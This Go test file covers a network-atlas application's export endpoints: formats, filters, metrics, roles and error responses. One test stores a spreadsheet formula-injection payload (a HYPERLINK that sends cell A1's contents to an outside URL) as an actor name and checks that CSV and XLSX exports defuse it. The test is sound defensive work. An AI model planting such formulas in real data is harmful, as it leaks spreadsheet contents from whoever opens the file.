package api

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/netzwerkatlas/netzwerkatlas/graph"
	"github.com/netzwerkatlas/netzwerkatlas/graph/analysis"
)

// attachmentName matches the Content-Disposition of a download.
var attachmentName = regexp.MustCompile(`^attachment; filename="(netzwerkatlas-[a-z]+-\d{4}-\d{2}-\d{2}\.[a-z]+)"$`)

// download checks that rec is a download with the content type and a file name that
// starts with prefix, and returns its body.
func download(t *testing.T, rec *httptest.ResponseRecorder, contentType, prefix string) []byte {
	t.Helper()
	if rec.Code != http.StatusOK {
		t.Fatalf("%d %.300s", rec.Code, rec.Body)
	}
	if ct := rec.Header().Get("Content-Type"); ct != contentType {
		t.Errorf("Content-Type %q, want %q", ct, contentType)
	}
	m := attachmentName.FindStringSubmatch(rec.Header().Get("Content-Disposition"))
	if m == nil || !strings.HasPrefix(m[1], prefix) {
		t.Errorf("Content-Disposition %q, want a file name starting with %s", rec.Header().Get("Content-Disposition"), prefix)
	}
	return rec.Body.Bytes()
}

// csvRecords parses a CSV file as EncodeCSV writes it.
func csvRecords(t *testing.T, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// column returns the values of the column with the header.
func column(t *testing.T, recs [][]string, header string) []string {
	t.Helper()
	i := slices.Index(recs[0], header)
	if i < 0 {
		t.Fatalf("no column %q in %v", header, recs[0])
	}
	var out []string
	for _, r := range recs[1:] {
		out = append(out, r[i])
	}
	return out
}

const (
	contentCSV  = "text/csv; charset=utf-8"
	contentXLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
)

// TestExportFilters exports actors and cooperations as CSV with the filters of the
// network view: cooperations and offers only among the kept actors.
func TestExportFilters(t *testing.T) {
	env := newEnv(t, Config{})
	for _, tc := range []struct {
		query, prefix string
		header, want  string
	}{
		{"", "netzwerkatlas-akteure-", "Schlüssel", "CA-2,EU-4,JC-3,LH-1"},
		{"?legal_domain=sgb9", "netzwerkatlas-akteure-", "Schlüssel", "EU-4,LH-1"},
		{"?kind=actor&q=seeland", "netzwerkatlas-akteure-", "Schlüssel", "JC-3,LH-1"},
		{"?kind=cooperation&legal_domain=sgb9", "netzwerkatlas-kooperationen-", "Akteur 1", "LH-1"},
		{"?kind=cooperation&legal_domain=sgb2&min_intensity=2", "netzwerkatlas-kooperationen-", "Akteur 1", "CA-2"},
		{"?kind=offer&legal_domain=sgb12", "netzwerkatlas-angebote-", "Akteur", "CA-2"},
		{"?kind=social_space&legal_domain=sgb12", "netzwerkatlas-sozialraeume-", "Schlüssel", ""},
	} {
		t.Run(tc.query, func(t *testing.T) {
			body := download(t, env.do(req{method: "GET", path: "/api/v1/exports/csv" + tc.query, role: viewer}), contentCSV, tc.prefix)
			got := column(t, csvRecords(t, body), tc.header)
			slices.Sort(got)
			if tc.want != "" && strings.Join(got, ",") != tc.want {
				t.Errorf("%s: %v, want %s", tc.header, got, tc.want)
			}
		})
	}
}

// TestExportFormats exports every format and imports the workbook again: nothing
// would change.
func TestExportFormats(t *testing.T) {
	env := newEnv(t, Config{})
	for _, tc := range []struct{ format, contentType, prefix, contains string }{
		{"xlsx", contentXLSX, "netzwerkatlas-netzwerk-", "PK"},
		{"json", "application/json", "netzwerkatlas-netzwerk-", `"actors"`},
		{"graphml", "application/graphml+xml", "netzwerkatlas-netzwerk-", "<graphml"},
		{"gexf", "application/gexf+xml", "netzwerkatlas-netzwerk-", "<gexf"},
		{"geojson", "application/geo+json", "netzwerkatlas-sozialraeume-", "FeatureCollection"},
	} {
		t.Run(tc.format, func(t *testing.T) {
			// An analyst's export holds every field (a viewer's lacks the confidential ones).
			body := download(t, env.do(req{method: "GET", path: "/api/v1/exports/" + tc.format, role: analyst}), tc.contentType, tc.prefix)
			if !bytes.Contains(body, []byte(tc.contains)) {
				t.Errorf("body lacks %q: %.200s", tc.contains, body)
			}
			if tc.format != "xlsx" {
				return
			}
			rec := env.do(importRequest(t, "?dry_run=true", editor, nil, upload{name: "export.xlsx", content: body}))
			var res importResponse
			decodeBody(t, rec, &res)
			if rec.Code != http.StatusOK {
				t.Fatalf("import of the export: %d %s", rec.Code, rec.Body)
			}
			for k, c := range res.Counts {
				if c.Created != 0 || c.Updated != 0 {
					t.Errorf("import of the export would change %s: %+v", k, *c)
				}
			}
		})
	}
}

// TestExportMetrics adds metrics to GEXF, GraphML and XLSX files (role analyst) and
// downloads the metric table of the analysis.
func TestExportMetrics(t *testing.T) {
	env := newEnv(t, Config{})
	// GEXF titles metrics with their German labels; GraphML, which has no titles,
	// names them by code, as networkx expects.
	labels := map[string]string{}
	for _, d := range analysis.Definitions() {
		labels[d.Code] = d.Label
	}
	for _, format := range []string{"gexf", "graphml"} {
		rec := env.do(req{method: "GET", path: "/api/v1/exports/" + format + "?metrics=true&directed=true", role: analyst})
		body := rec.Body.String()
		for _, metric := range []string{"betweenness", "in_degree", "brokerage.liaison"} {
			want := `attr.name="` + metric + `"`
			if format == "gexf" {
				want = `id="metric:` + metric + `" title="` + labels[metric] + `"`
			}
			if rec.Code != http.StatusOK || labels[metric] == "" || !strings.Contains(body, want) {
				t.Errorf("%s with metrics: %d, no %s: %.400s", format, rec.Code, want, body)
			}
		}
	}

	body := download(t, env.do(req{method: "GET", path: "/api/v1/exports/xlsx?metrics=true&legal_domain=sgb9", role: analyst}), contentXLSX, "netzwerkatlas-netzwerk-")
	rows := sheetRows(t, body, "Kennzahlen")
	if len(rows) != 3 || rows[0][0] != "Schlüssel" || rows[0][1] != "Name" || !slices.Contains(rows[0], "Vermittlungsposition (Betweenness)") {
		t.Errorf("Kennzahlen of the sgb9 actors: %v", rows)
	}

	for _, format := range []string{"csv", "xlsx"} {
		rec := env.do(req{method: "GET", path: "/api/v1/analysis/actors?format=" + format, role: analyst})
		contentType := contentCSV
		if format == "xlsx" {
			contentType = contentXLSX
		}
		body := download(t, rec, contentType, "netzwerkatlas-kennzahlen-")
		var table [][]string
		if format == "csv" {
			table = csvRecords(t, body)
		} else {
			table = sheetRows(t, body, "Kennzahlen")
		}
		if len(table) != 5 || table[0][2] != "Anzahl Kooperationen (Grad)" || slices.Contains(table[0], "Eingehende Beziehungen") {
			t.Errorf("%s metric table: %v", format, table)
		}
	}
	rec := env.do(req{method: "GET", path: "/api/v1/analysis/actors?format=xlsx&directed=true", role: analyst})
	if rows := sheetRows(t, rec.Body.Bytes(), "Kennzahlen"); !slices.Contains(rows[0], "Eingehende Beziehungen") {
		t.Errorf("directed metric table lacks in-degree: %v", rows[0])
	}
}

// sheetRows returns the rows of a sheet of a workbook.
func sheetRows(t *testing.T, body []byte, sheet string) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatalf("sheet %s of %v: %v", sheet, f.GetSheetList(), err)
	}
	return rows
}

// TestExportNeutralizesFormulas exports a name that a spreadsheet would run as a
// formula: CSV and XLSX write it with a leading apostrophe.
func TestExportNeutralizesFormulas(t *testing.T) {
	env := newEnv(t, Config{})
	const name = `=HYPERLINK("https://example.org/?x="&A1,"Klick")`
	rec := env.do(req{method: "POST", path: "/api/v1/actors", role: editor,
		body: `{"name":` + jsonString(t, name) + `,"kind":"association","legal_domains":["sgb9"],"external_key":"X-1"}`})
	if rec.Code != http.StatusCreated {
		t.Fatalf("create: %d %s", rec.Code, rec.Body)
	}
	names := column(t, csvRecords(t, download(t, env.do(req{method: "GET", path: "/api/v1/exports/csv?q=hyperlink", role: viewer}), contentCSV, "netzwerkatlas-akteure-")), "Name")
	if len(names) != 1 || names[0] != "'"+name {
		t.Errorf("CSV names %q, want the formula neutralised", names)
	}
	rows := sheetRows(t, download(t, env.do(req{method: "GET", path: "/api/v1/exports/xlsx?q=hyperlink", role: viewer}), contentXLSX, "netzwerkatlas-netzwerk-"), "Akteure")
	i := slices.Index(rows[0], "Name")
	if len(rows) != 2 || i < 0 || rows[1][i] != "'"+name {
		t.Errorf("XLSX rows %q, want the formula neutralised", rows)
	}
}

// jsonString encodes s as a JSON string.
func jsonString(t *testing.T, s string) string {
	t.Helper()
	b, err := marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(b))
}

// TestExportProblems checks the answers to wrong export requests.
func TestExportProblems(t *testing.T) {
	env := newEnv(t, Config{})
	for _, tc := range []struct {
		path   string
		role   graph.Role
		status int
		field  string
	}{
		{"/api/v1/exports/pdf", viewer, http.StatusNotFound, ""},
		{"/api/v1/exports/csv", "", http.StatusUnauthorized, ""},
		{"/api/v1/exports/gexf?metrics=true", viewer, http.StatusForbidden, ""},
		{"/api/v1/exports/csv?metrics=true", analyst, http.StatusBadRequest, "metrics"},
		{"/api/v1/exports/xlsx?kind=actor", viewer, http.StatusBadRequest, "kind"},
		{"/api/v1/exports/csv?kind=akteur", viewer, http.StatusBadRequest, "kind"},
		{"/api/v1/exports/csv?legal_domain=sgb9&level=county", viewer, http.StatusBadRequest, "level"},
		{"/api/v1/exports/csv?min_intensity=7", viewer, http.StatusBadRequest, "min_intensity"},
		{"/api/v1/exports/csv?limit=5", viewer, http.StatusBadRequest, "limit"},
		{"/api/v1/analysis/actors?format=pdf", analyst, http.StatusBadRequest, "format"},
		{"/api/v1/analysis/actors?format=csv", viewer, http.StatusForbidden, ""},
	} {
		t.Run(tc.path, func(t *testing.T) {
			rec := env.do(req{method: "GET", path: tc.path, role: tc.role})
			if rec.Code != tc.status {
				t.Fatalf("%d, want %d: %s", rec.Code, tc.status, rec.Body)
			}
			p := problemOf(t, rec)
			if tc.field != "" && (len(p.Errors) == 0 || p.Errors[0].Field != tc.field) {
				t.Errorf("errors %+v, want field %q", p.Errors, tc.field)
			}
		})
	}
}
